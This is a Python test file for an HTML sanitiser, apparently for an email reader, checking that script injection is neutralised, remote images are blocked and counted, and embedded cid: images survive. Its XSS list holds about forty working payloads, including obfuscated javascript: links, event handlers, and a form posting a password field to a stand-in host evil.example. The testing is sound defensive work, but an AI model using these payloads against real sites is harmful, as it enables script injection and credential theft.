"""The sanitiser: hostile HTML neutralised, remote content blocked and counted, cid: images kept."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from host.html import SanitisedHtml, html_to_text, sanitise_html

XSS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="cid:a" onerror="alert(1)">',
    "<svg onload=alert(1)><circle r=1 /></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>text",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="jav\nascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<div style="width: expression(alert(1))">x</div>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="behavior: url(x.htc)">x</div>',
    '<div style="-moz-binding: url(http://evil.example/x.xml#x)">x</div>',
    '<div style="background-image: u\\72l(http://evil.example/x)">x</div>',
    '<div style="color: red; position: fixed; top: 0">overlay</div>',
    "<div style=\"color: re/**/d; background: image-set('http://evil.example/x.png' 1x)\">x</div>",
    '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe src="http://evil.example/"></iframe>',
    '<form action="http://evil.example/steal"><input name=password><button formaction=x>Go</button></form>',
    '<base href="http://evil.example/">',
    '<object data="x.swf"></object><embed src="x.swf"><applet code=x></applet>',
    '<link rel="stylesheet" href="http://evil.example/x.css">',
    "<style>@import 'http://evil.example/x.css'; body{background:url(http://evil.example/p)}</style>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<a href="https://ok.example/" onmouseover="alert(1)" target="_top">ok</a>',
    '<div id="__proto__" class="reader-chrome">clobber</div>',
    "<template><script>alert(1)</script></template>",
    '<img src="x" srcset="javascript:alert(1) 1x">',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    "<!--[if gte mso 9]><script>alert(1)</script><![endif]-->",
    '<img src="file:///etc/passwd">',
]


@pytest.mark.parametrize("vector", XSS)
def test_xss_vectors_are_neutralised(vector, safe):
    for allow_remote in (False, True):
        result = sanitise_html(vector, allow_remote=allow_remote)
        safe(result.html)


def test_safe_formatting_is_kept(safe):
    html = (
        '<table border="0" cellpadding="4" width="100%" bgcolor="#ffffff"><tr><td align="center" valign="top" '
        "style=\"color: #333; padding: 4px; font-family: 'Segoe UI', Arial; background-color: rgb(1, 2, 3)\">"
        '<font color="red" face="Arial">Hi</font> <b>bold</b> <i>it</i> <u>u</u></td></tr></table>'
        "<ul><li>one</li></ul><blockquote>quoted</blockquote><pre>code</pre><hr>"
    )
    result = sanitise_html(html)
    safe(result.html)
    for kept in ('cellpadding="4"', 'bgcolor="#ffffff"', 'valign="top"', "color: #333", "padding: 4px",
                 "font-family: 'Segoe UI', Arial", "background-color: rgb(1, 2, 3)", '<font color="red" face="Arial">',
                 "<b>bold</b>", "<blockquote>", "<pre>code</pre>", "<li>one</li>"):  # fmt: skip
        assert kept in result.html
    assert result.blocked_remote == 0


def test_links_are_kept_with_rel(safe):
    result = sanitise_html('<a href="https://example.com/a?b=1&amp;c=2">site</a> <a href="mailto:a@example.com">m</a>')
    safe(result.html)
    assert '<a href="https://example.com/a?b=1&amp;c=2" rel="noopener noreferrer">site</a>' in result.html
    assert 'href="mailto:a@example.com"' in result.html


def test_remote_images_are_stripped_and_counted(safe):
    html = (
        '<img src="https://tracker.example/open.gif?u=1">'
        '<img src="http://tracker.example/open.gif?u=1">'
        '<img src="https://tracker.example/open.gif?u=1">'  # the same URL again counts once
        '<img src="//cdn.example/logo.png">'
        '<img src="\\\\cdn.example\\logo2.png">'
        '<img srcset="https://cdn.example/a.png 1x, https://cdn.example/b.png 2x, cid:c 3x">'
        '<table background="https://cdn.example/bg.png"><tr><td background="http://cdn.example/td.png">x</td></tr>'
        "</table>"
        "<div style=\"color: red; background-image: url('https://cdn.example/div.png')\">y</div>"
        '<p style="background: #fff url(//cdn.example/p.png) no-repeat">z</p>'
    )
    result = sanitise_html(html)
    elements = safe(result.html)
    assert "cdn.example" not in result.html and "tracker.example" not in result.html
    assert result.blocked_remote == 10
    assert ("img", {"srcset": "cid:c 3x"}) in elements
    assert '<div style="color: red">y</div>' in result.html
    assert "<p>z</p>" in result.html


def test_cid_and_data_images_are_kept(safe):
    result = sanitise_html(
        '<img src="cid:chart@example.com" alt="chart"><img src="CID:logo"><img src="data:image/png;base64,iVBORw0K">'
        '<div style="background-image: url(cid:bg)">x</div>'
    )
    safe(result.html)
    assert 'src="cid:chart@example.com"' in result.html and 'src="CID:logo"' in result.html
    assert 'src="data:image/png;base64,iVBORw0K"' in result.html
    assert "url(&quot;cid:bg&quot;)" in result.html
    assert result.blocked_remote == 0


def test_allow_remote_keeps_images_but_never_scripts(safe):
    html = (
        '<img src="https://cdn.example/logo.png" onerror="alert(1)"><img src="//cdn.example/x.png">'
        '<div style="background: url(https://cdn.example/bg.png)">x</div><script>alert(1)</script>'
    )
    result = sanitise_html(html, allow_remote=True)
    safe(result.html)
    assert result == SanitisedHtml(
        html='<img src="https://cdn.example/logo.png"><img src="https://cdn.example/x.png">'
        '<div style="background: url(&quot;https://cdn.example/bg.png&quot;)">x</div>',
        blocked_remote=0,
    )


def test_relative_urls_are_dropped():
    result = sanitise_html('<a href="/account">a</a><a href="#top">b</a><img src="logo.png">')
    assert "href" not in result.html and "src" not in result.html
    assert result.blocked_remote == 0


def test_full_documents_and_garbage(safe):
    for html in (
        "",
        "plain text",
        "<html><head><title>T</title></head><body><p>Hi",
        "<<<>>>&&&",
        "<p " * 1000,
        "\x00<b>x",
    ):
        result = sanitise_html(html)
        safe(result.html)
        assert "\x00" not in result.html
    assert sanitise_html("<html><head><title>T</title></head><body><p>Hi").html == "<p>Hi</p>"


FRAGMENTS = [
    "<img src=", "<a href=", "<div style=", "<table background=", "<svg ", "<math>", "<style>", "</style>", "<script>",
    "</script>", "<noscript>", "</noscript>", "<iframe>", "<!--", "-->", "<![CDATA[", "]]>", '"', "'", ">", "<", " ",
    "javascript:", "java\tscript:", "&#106;", "&colon;", "http://x.example/p.gif", "//x.example/p", "cid:a",
    "data:image/png;base64,AA", "data:text/html,", "onerror=", "onload=", "url(", ")", "expression(", "\\", "/*",
    "srcset=", "style=", "background:", "alert(1)", "<title>", "<textarea>", "</textarea>", "<template>", "<p>",
]  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(html=st.lists(st.sampled_from(FRAGMENTS), max_size=40).map("".join), allow_remote=st.booleans())
def test_fragments_of_attacks_never_survive(html, allow_remote, safe):
    result = sanitise_html(html, allow_remote=allow_remote)
    elements = safe(result.html)
    if not allow_remote:  # nothing that loads by itself points anywhere remote
        for _tag, attributes in elements:
            for name in ("src", "srcset", "background", "style"):
                assert "x.example" not in attributes.get(name, ""), (html, result.html)


@pytest.mark.timeout(60)  # the stdlib HTMLParser and a CSS regex once took minutes on these
@pytest.mark.parametrize(
    "html",
    [
        '<p title="' * 50_000,
        "<b>x</b>" * 100_000,
        '<p style="color: ' + "a" * 300_000 + '">x</p>',
        "<!--" + "x" * 10**6,
    ],
)
def test_hostile_html_in_linear_time(html, safe):
    safe(sanitise_html(html).html)
    assert isinstance(html_to_text(html), str)
